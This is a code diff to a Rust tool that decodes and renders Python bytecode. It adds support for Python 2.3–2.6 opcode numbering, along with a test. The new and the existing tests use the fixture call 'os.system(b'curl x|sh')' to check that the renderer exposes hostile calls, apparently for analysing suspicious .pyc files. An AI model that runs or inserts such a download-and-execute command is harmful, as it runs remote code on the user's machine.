@@ -43,8 +43,10 @@ impl Default for RenderLimits {
 /// Which instruction set the bytecode uses.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Dialect {
-    /// Python 2: one byte per instruction, two more for an argument.
+    /// Python 2.7: one byte per instruction, two more for an argument.
     Py2,
+    /// Python 2.3–2.6: as 2.7 before `BUILD_SET` shifted the opcodes from 104 on.
+    Py26,
     /// Python 3.0–3.5: the same encoding, Python 3 opcodes.
     Py30,
     /// Python 3.6–3.10: two bytes per instruction.
@@ -64,6 +66,7 @@ pub enum Dialect {
 pub fn dialect_of(code: &Code, version: Option<Version>) -> Dialect {
     if let Some(version) = version {
         return match version {
+            (2, minor) if minor < 7 => Dialect::Py26,
             (major, _) if major < 3 => Dialect::Py2,
             (3, minor) if minor < 6 => Dialect::Py30,
             (3, minor) if minor < 11 => Dialect::Py36,
@@ -210,6 +213,13 @@ fn op_of(dialect: Dialect, opcode: u8) -> Op {
         _ => Other,
     };
     match dialect {
+        Dialect::Py26 => match opcode {
+            105 => LoadAttr,
+            106 => Other,
+            107 => ImportName,
+            108 => ImportFrom,
+            other => op_of(Dialect::Py2, other),
+        },
         Dialect::Py2 | Dialect::Py30 => match opcode {
             4 => Copy,
             9 => Nop,
@@ -761,7 +771,7 @@ impl Body<'_> {
             }
             Op::CallFunction => {
                 let (positional, keywords) = match self.dialect {
-                    Dialect::Py2 | Dialect::Py30 => (arg & 0xff, (arg >> 8) & 0xff),
+                    Dialect::Py2 | Dialect::Py26 | Dialect::Py30 => (arg & 0xff, (arg >> 8) & 0xff),
                     _ => (arg, 0),
                 };
                 let mut pairs = Vec::new();
@@ -1211,7 +1221,7 @@ fn instructions(bytecode: &[u8], dialect: Dialect) -> Vec<(usize, u8, usize)> {
     let mut out = Vec::new();
     let mut extended: usize = 0;
     match dialect {
-        Dialect::Py2 | Dialect::Py30 => {
+        Dialect::Py2 | Dialect::Py26 | Dialect::Py30 => {
             let mut at = 0usize;
             while let Some(&opcode) = bytecode.get(at) {
                 let start = at;
@@ -1224,7 +1234,11 @@ fn instructions(bytecode: &[u8], dialect: Dialect) -> Vec<(usize, u8, usize)> {
                     at += 1;
                     0
                 };
-                let extended_arg = if dialect == Dialect::Py2 { 145 } else { 144 };
+                let extended_arg = match dialect {
+                    Dialect::Py2 => 145,
+                    Dialect::Py26 => 143,
+                    _ => 144,
+                };
                 if opcode == extended_arg {
                     extended = arg & 0xffff;
                     continue;
@@ -1260,7 +1274,7 @@ fn line_starts(code: &Code, dialect: Dialect) -> Vec<(usize, u32)> {
         // shape with the steps in the other order of application and -128 for "no line";
         // reading it as `co_lnotab` shifts a line change by at most one entry, which is
         // close enough for evidence.
-        Dialect::Py2 | Dialect::Py30 | Dialect::Py36 => {
+        Dialect::Py2 | Dialect::Py26 | Dialect::Py30 | Dialect::Py36 => {
             for pair in table.chunks_exact(2) {
                 let &[address, delta] = pair else { continue };
                 offset += usize::from(address);
@@ -1494,6 +1508,16 @@ mod tests {
         assert!(text.contains("import os"), "{text}");
         assert!(text.contains("os.system(b'curl x|sh')"), "{text}");
         assert!(text.contains("exec(b'import os')"), "{text}");
+        // 2.6 numbers IMPORT_NAME and LOAD_ATTR one lower: its .pyc says which it is.
+        let bytecode = [
+            100, 0, 0, 100, 1, 0, 107, 0, 0, 90, 0, 0, 101, 0, 0, 105, 1, 0, 100, 2, 0, 131, 1, 0,
+            1, 100, 1, 0, 83,
+        ];
+        let data = code(Layout::Py2, &bytecode, &consts, &["os", "system"]);
+        let (code, _) = read_code(&data, Limits::default()).unwrap();
+        let text = render(&code, Some((2, 6)), RenderLimits::default());
+        assert!(text.contains("import os"), "{text}");
+        assert!(text.contains("os.system(b'curl x|sh')"), "{text}");
     }
 
     #[test]
